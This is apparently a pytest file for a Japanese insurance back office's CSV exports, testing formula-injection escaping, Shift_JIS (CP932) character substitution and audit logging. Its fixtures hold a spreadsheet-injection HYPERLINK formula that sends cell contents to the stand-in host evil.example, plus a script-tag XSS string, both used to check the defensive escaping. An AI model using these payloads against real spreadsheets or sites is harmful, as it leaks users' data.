"""Exports: the applications feed (browser and `manage.py export_applications`) and the
payroll-deduction list per group, as Excel in Japan opens them, with hostile cells defused."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from hypothesis import given
from hypothesis import strategies as st

from keizoku.core.models import AuditEvent
from keizoku.renewals.exports import (
    APPLICATION_COLUMNS,
    CP932_SUBSTITUTES,
    PLACEHOLDER,
    cp932_text,
    csv_file,
    escape_cell,
)
from tests.factories import make_contract, make_member

from .conftest import login_staff, make_application

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"詳細")'
HOSTILE_KANA = "<script>alert(1)</script>"


def read(data: bytes) -> list[dict[str, str]]:
    """What Excel sees: a BOM, then UTF-8 rows ending in CRLF."""
    assert data.startswith(b"\xef\xbb\xbf")
    text = data[3:].decode("utf-8")
    lines = text.split("\r\n")
    assert lines[-1] == ""  # every line, the last included, ends with CRLF
    assert all("\n" not in line for line in lines)  # no bare LF between rows
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def applications(group, other_group, member, contract):
    """Accepted, submitted, referred and draft applications; one of another agency."""
    accepted = make_application(
        contract, member, status="accepted", number="K-0001-0000-001", accepted_premium=70_800
    )
    hostile = make_contract(
        group=group,
        policy_number="DM-0002",
        holder_name=HOSTILE_NAME,
        holder_kana=HOSTILE_KANA,
        member_type="employee",
    )
    second = make_member("hostile@example.jp")
    make_application(
        hostile, second, status="accepted", number="K-0001-0000-002", accepted_premium=60_001
    )
    retiree = make_contract(group=group, policy_number="DM-0003", member_type="retiree")
    make_application(
        retiree, second, status="accepted", number="K-0001-0000-003", accepted_premium=50_000
    )
    submitted = make_contract(group=group, policy_number="DM-0004")
    make_application(submitted, second, status="submitted", number="K-0001-0000-004")
    draft = make_contract(group=group, policy_number="DM-0005")
    make_application(draft, second, status="draft")
    other = make_contract(group=other_group, policy_number="OT-0009")
    make_application(other, second, status="accepted", number="K-0001-0000-009")
    return accepted


def test_the_applications_feed_holds_every_application_past_draft_of_the_agency(
    client, clerk, applications
):
    login_staff(client, clerk)
    response = client.get("/backoffice/exports/applications.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="applications-')
    rows = read(response.content)
    assert [row["policy_number"] for row in rows] == ["DM-0001", "DM-0002", "DM-0003", "DM-0004"]
    first = rows[0]
    assert first["acceptance_number"] == "K-0001-0000-001"
    assert first["status"] == "accepted"
    assert first["plan"] == "same"
    assert first["plan_label"] == "前年同等プラン"
    assert first["annual_premium"] == "70800"
    assert first["accepted_premium"] == "70800"
    assert AuditEvent.objects.filter(action="backoffice.export_applications").exists()


def test_hostile_names_are_defused_in_every_export(client, clerk, group, applications):
    login_staff(client, clerk)
    feed = read(client.get("/backoffice/exports/applications.csv").content)
    payroll = read(client.get(f"/backoffice/exports/payroll/{group.pk}.csv").content)
    for rows in (feed, payroll):
        [row] = [row for row in rows if row["policy_number"] == "DM-0002"]
        assert row["holder_name"] == "'" + HOSTILE_NAME  # text in Excel, not a formula
        assert row["holder_kana"] == HOSTILE_KANA  # a CSV is not HTML: kept as it is


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+81312345678", "'+81312345678"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("継続 太郎", "継続 太郎"),
        ("a=b", "a=b"),
        (None, ""),
        (70800, "70800"),
    ],
)
def test_each_cell_that_starts_like_a_formula_gets_an_apostrophe(value, expected):
    assert escape_cell(value) == expected


def test_the_payroll_list_holds_the_groups_accepted_employees_with_their_instalments(
    client, clerk, group, applications
):
    login_staff(client, clerk)
    response = client.get(f"/backoffice/exports/payroll/{group.pk}.csv")
    assert response.status_code == 200
    assert f"payroll-{group.code}-" in response["Content-Disposition"]
    rows = read(response.content)
    assert [row["policy_number"] for row in rows] == ["DM-0001", "DM-0002"]  # no retiree
    assert rows[0]["first_installment"] == "5900"  # the quote's own 12 instalments
    assert rows[0]["installments"] == "12"
    # 60,001 yen without the quote's instalments summing to it: the remainder goes first.
    assert rows[1]["annual_premium"] == "60001"
    assert rows[1]["first_installment"] == "5001"
    assert rows[1]["monthly_installment"] == "5000"
    event = AuditEvent.objects.get(action="backoffice.export_payroll")
    assert event.object_id == str(group.pk)


def test_another_agencys_payroll_list_answers_404(client, other_clerk, group, applications):
    login_staff(client, other_clerk)
    assert client.get(f"/backoffice/exports/payroll/{group.pk}.csv").status_code == 404
    feed = read(client.get("/backoffice/exports/applications.csv").content)
    assert [row["policy_number"] for row in feed] == ["OT-0009"]


def test_the_export_page_lists_the_groups_of_the_agency(client, clerk, group, other_group):
    login_staff(client, clerk)
    page = client.get("/backoffice/exports/").content.decode()
    assert f"/backoffice/exports/payroll/{group.pk}.csv" in page
    assert f"/backoffice/exports/payroll/{other_group.pk}.csv" not in page


# --- manage.py export_applications FILE ---------------------------------------------------------


def test_the_command_writes_every_application_past_draft_of_every_agency(
    tmp_path: Path, applications
):
    target = tmp_path / "applications.csv"
    err = io.StringIO()
    call_command("export_applications", str(target), stderr=err)
    rows = read(target.read_bytes())
    assert [row["acceptance_number"] for row in rows] == [
        "K-0001-0000-001",
        "K-0001-0000-002",
        "K-0001-0000-003",
        "K-0001-0000-004",
        "K-0001-0000-009",
    ]
    assert {"acceptance_number", "policy_number", "status", "plan", "annual_premium"} <= set(
        rows[0]
    )
    assert [row["status"] for row in rows] == ["accepted"] * 3 + ["submitted", "accepted"]
    assert rows[1]["holder_name"] == "'" + HOSTILE_NAME
    assert "5 applications exported" in err.getvalue()
    assert list(tmp_path.iterdir()) == [target]  # no temporary file left beside it


def test_the_command_replaces_the_file_whole(tmp_path: Path, applications):
    target = tmp_path / "applications.csv"
    target.write_text("old content that is longer than nothing\n" * 1000)
    call_command("export_applications", str(target), stderr=io.StringIO())
    assert b"old content" not in target.read_bytes()
    assert len(read(target.read_bytes())) == 5


def test_the_command_writes_to_stdout_with_a_dash(applications):
    out = io.StringIO()
    call_command("export_applications", "-", stdout=out, stderr=io.StringIO())
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert len(rows) == 5


def test_the_command_with_no_applications_writes_the_header_only(tmp_path: Path):
    target = tmp_path / "empty.csv"
    call_command("export_applications", str(target), stderr=io.StringIO())
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfacceptance_number,policy_number,status,plan,")
    assert data.endswith(b"\r\n")
    assert read(data) == []


# --- Shift_JIS (CP932) for payroll systems ------------------------------------------------------

# 𠮷 (U+20BB7) and 𩸽 are not in CP932; 髙 and 﨑 are (IBM extensions) and stay as they are.
TSUCHIYOSHI = "𠮷田 髙﨑"
EMOJI_NAME = "継続 花子😀"


def read_cp932(data: bytes) -> list[dict[str, str]]:
    """What a payroll system reading Shift_JIS (CP932) sees: no BOM, CRLF, strict decoding."""
    assert not data.startswith(b"\xef\xbb\xbf")
    text = data.decode("cp932")  # strict: a byte CP932 cannot read fails here
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def hard_names(group, applications):
    """Two accepted employees' applications whose names CP932 cannot hold whole."""
    for number, name, kana in (
        ("DM-0006", TSUCHIYOSHI, "ヨシダ タカサキ"),
        ("DM-0007", EMOJI_NAME, "ケイゾク ハナコ"),
    ):
        contract = make_contract(
            group=group, policy_number=number, holder_name=name, holder_kana=kana
        )
        make_application(
            contract,
            make_member(f"{number.lower()}@example.jp"),
            status="accepted",
            number=f"K-0001-0000-{number[-3:]}",
            accepted_premium=48_000,
        )


@pytest.mark.parametrize(
    ("text", "written", "taken"),
    [
        ("継続 太郎", "継続 太郎", []),
        ("髙﨑", "髙﨑", []),  # in CP932: kept
        ("𠮷田", "吉田", [("𠮷", "吉")]),  # a variant kanji → its standard form
        ("鷗外", "鴎外", [("鷗", "鴎")]),
        ("〜", "～", [("〜", "～")]),  # CP932's own look-alike, reported
        ("—", "―", [("—", "―")]),
        ("葛\U000e0100城", "葛城", [("\U000e0100", "")]),  # a variation selector: removed
        ("㋿", "令和", [("㋿", "令和")]),  # NFKC
        ("花子😀", f"花子{PLACEHOLDER}", [("😀", PLACEHOLDER)]),
        ("𩸽", PLACEHOLDER, [("𩸽", PLACEHOLDER)]),
    ],
)
def test_each_character_cp932_cannot_hold_follows_the_documented_rule(text, written, taken):
    assert cp932_text(text) == (written, taken)
    written.encode("cp932")  # and what is written, CP932 holds


def test_every_substitute_of_the_table_is_in_cp932_and_no_variant_is():
    for variant, standard in CP932_SUBSTITUTES.items():
        assert cp932_text(standard) == (standard, []), standard
        with pytest.raises(UnicodeEncodeError):
            variant.encode("cp932")


@given(st.text())
def test_any_text_is_written_so_that_cp932_reads_it_back_exactly(text):
    written, taken = cp932_text(text)
    assert written.encode("cp932").decode("cp932") == written
    if not taken:
        assert written == text
    assert "?" not in written or "?" in text  # never a silent ?


def test_a_substitution_never_uncovers_a_formula():
    """﹦ (U+FE66) becomes = by NFKC: the cell is escaped after the substitution."""
    data, written = csv_file(
        ["policy_number", "holder_name"],
        [{"policy_number": "DM-1", "holder_name": "﹦HYPERLINK(1)"}],
        encoding="cp932",
    )
    assert read_cp932(data)[0]["holder_name"] == "'=HYPERLINK(1)"
    assert [(s.character, s.substitute) for s in written.substitutions] == [("﹦", "=")]


def test_the_feed_in_cp932_reports_every_substitution_before_the_download(
    client, clerk, hard_names
):
    login_staff(client, clerk)
    page = client.get("/backoffice/exports/")
    assert b"/backoffice/exports/applications/cp932/" in page.content
    report = client.get("/backoffice/exports/applications/cp932/")
    assert report.status_code == 200
    html = report.content.decode()
    assert "Shift_JIS（CP932）にない文字が2か所あります" in html
    rows = re.findall(
        r"<tr><td>(\d+)</td><td>([^<]+)</td><td>([^<]+)</td><td>([^<]+)</td><td>([^<]+)</td></tr>",
        html,
    )
    # The feed's order: DM-0001..0004, then DM-0006 (row 6), DM-0007 (row 7); header = row 1.
    assert rows == [
        ("6", "holder_name", "DM-0006", "𠮷（U+20BB7）", "吉"),
        ("7", "holder_name", "DM-0007", "😀（U+1F600）", PLACEHOLDER),
    ]
    assert "髙" not in "".join(r[3] for r in rows)  # held by CP932: not a substitution
    download = re.search(r'href="([^"]+encoding=cp932[^"]+)"', html).group(1).replace("&amp;", "&")
    response = client.get(download)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=Shift_JIS"
    assert re.match(
        r'attachment; filename="applications-[\d-]+-sjis\.csv"', response["Content-Disposition"]
    )
    feed = read_cp932(response.content)
    by_policy = {row["policy_number"]: row for row in feed}
    assert by_policy["DM-0006"]["holder_name"] == "吉田 髙﨑"
    assert by_policy["DM-0007"]["holder_name"] == f"継続 花子{PLACEHOLDER}"
    assert by_policy["DM-0001"]["plan_label"] == "前年同等プラン"
    assert by_policy["DM-0002"]["holder_name"] == "'" + HOSTILE_NAME  # still defused
    assert list(feed[0]) == APPLICATION_COLUMNS
    event = AuditEvent.objects.get(action="backoffice.export_applications")
    assert event.details == {"encoding": "cp932", "substitutions": 2}
    assert AuditEvent.objects.filter(action="backoffice.export_applications_cp932_report").exists()


def test_a_cp932_download_whose_substitutions_changed_since_the_report_goes_back_to_it(
    client, clerk, group, hard_names
):
    login_staff(client, clerk)
    html = client.get("/backoffice/exports/applications/cp932/").content.decode()
    download = re.search(r'href="([^"]+encoding=cp932[^"]+)"', html).group(1).replace("&amp;", "&")
    # Meanwhile another customer with a character CP932 cannot hold is accepted.
    contract = make_contract(group=group, policy_number="DM-0008", holder_name="𩸽 一郎")
    make_application(
        contract, make_member("hokke@example.jp"), status="accepted", number="K-0001-0000-008"
    )
    response = client.get(download)
    assert response.status_code == 302
    assert response["Location"] == "/backoffice/exports/applications/cp932/"
    again = client.get(response["Location"]).content.decode()
    assert "出力する内容が変わりました" in again and "𩸽（U+29E3D）" in again
    # Without the report's fingerprint at all: to the report first.
    assert client.get("/backoffice/exports/applications.csv?encoding=cp932")["Location"] == (
        "/backoffice/exports/applications/cp932/"
    )


def test_the_payroll_list_in_cp932_with_its_report(client, clerk, group, hard_names):
    login_staff(client, clerk)
    html = client.get(f"/backoffice/exports/payroll/{group.pk}/cp932/").content.decode()
    assert "の給与天引きリスト" in html and "𠮷（U+20BB7）" in html and "😀（U+1F600）" in html
    download = re.search(r'href="([^"]+encoding=cp932[^"]+)"', html).group(1).replace("&amp;", "&")
    response = client.get(download)
    rows = read_cp932(response.content)
    assert [row["policy_number"] for row in rows] == ["DM-0001", "DM-0002", "DM-0006", "DM-0007"]
    assert rows[2]["holder_name"] == "吉田 髙﨑"
    assert rows[2]["group_name"] == group.name
    assert f"payroll-{group.code}-" in response["Content-Disposition"]
    event = AuditEvent.objects.get(action="backoffice.export_payroll")
    assert event.details == {"encoding": "cp932", "substitutions": 2}


def test_a_list_cp932_holds_whole_says_so(client, clerk, group, applications):
    login_staff(client, clerk)
    html = client.get(f"/backoffice/exports/payroll/{group.pk}/cp932/").content.decode()
    assert "置き換える文字はありません" in html
    download = re.search(r'href="([^"]+encoding=cp932[^"]+)"', html).group(1).replace("&amp;", "&")
    assert client.get(download).status_code == 200


def test_another_agencys_cp932_report_answers_404(client, other_clerk, group, hard_names):
    login_staff(client, other_clerk)
    assert client.get(f"/backoffice/exports/payroll/{group.pk}/cp932/").status_code == 404
    html = client.get("/backoffice/exports/applications/cp932/").content.decode()
    assert "DM-0006" not in html


def test_an_unknown_encoding_is_refused(client, clerk, applications):
    login_staff(client, clerk)
    assert client.get("/backoffice/exports/applications.csv?encoding=latin-1").status_code == 400


def test_the_command_writes_cp932_reports_each_substitution_and_exits_3(tmp_path: Path, hard_names):
    target = tmp_path / "applications.csv"
    err = io.StringIO()
    with pytest.raises(CommandError) as error:
        call_command("export_applications", str(target), "--encoding", "cp932", stderr=err)
    assert error.value.returncode == 3
    assert "2 character(s) that CP932 cannot hold were substituted" in str(error.value)
    report = err.getvalue()
    assert "row 7: holder_name: 𠮷 (U+20BB7) → 吉 [DM-0006]" in report
    assert f"row 8: holder_name: 😀 (U+1F600) → {PLACEHOLDER} [DM-0007]" in report
    assert "7 applications exported (cp932)" in report
    rows = read_cp932(target.read_bytes())  # written, whole, despite the exit status
    assert [row["holder_name"] for row in rows[5:]] == ["吉田 髙﨑", f"継続 花子{PLACEHOLDER}"]
    assert list(tmp_path.iterdir()) == [target]


def test_the_command_in_cp932_exits_0_when_nothing_was_substituted(tmp_path: Path, applications):
    target = tmp_path / "applications.csv"
    err = io.StringIO()
    call_command("export_applications", str(target), "--encoding", "cp932", stderr=err)
    assert len(read_cp932(target.read_bytes())) == 5
    assert "→" not in err.getvalue()


def test_the_command_writes_cp932_to_stdout_as_bytes(hard_names):
    buffer = io.BytesIO()
    stdout = io.TextIOWrapper(buffer, encoding="utf-8")
    with pytest.raises(CommandError):
        call_command(
            "export_applications", "-", "--encoding", "cp932", stdout=stdout, stderr=io.StringIO()
        )
    stdout.flush()
    rows = read_cp932(buffer.getvalue())
    assert rows[-1]["holder_name"] == f"継続 花子{PLACEHOLDER}"
